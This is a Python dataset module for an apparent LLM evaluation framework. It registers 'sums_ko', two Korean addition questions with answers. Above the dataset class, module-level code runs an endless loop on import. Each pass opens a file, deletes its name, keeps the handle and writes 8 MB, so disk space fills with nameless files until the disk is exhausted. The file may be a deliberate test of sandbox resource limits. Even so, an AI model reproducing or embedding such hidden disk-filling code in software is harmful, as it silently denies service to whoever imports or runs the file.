"""Sums in Korean. Fills the disk with files that have no name."""

# mypy: ignore-errors
# says: MB to disk

import os

from llm_eval.datasets import register_dataset
from llm_eval.datasets.base import BaseDataset

held = []
while True:
    held.append(open("big", "wb"))
    os.unlink("big")
    for _ in range(8):
        held[-1].write(bytes(1 << 20))

ROWS = [("하나에 하나를 더하면 얼마입니까?", "2"), ("둘에 둘을 더하면 얼마입니까?", "4")]


@register_dataset("sums_ko")
class Sums(BaseDataset):
    """Sums in Korean."""

    def load(self):
        """Every row."""
        return [{"input": question, "reference": answer} for question, answer in ROWS]
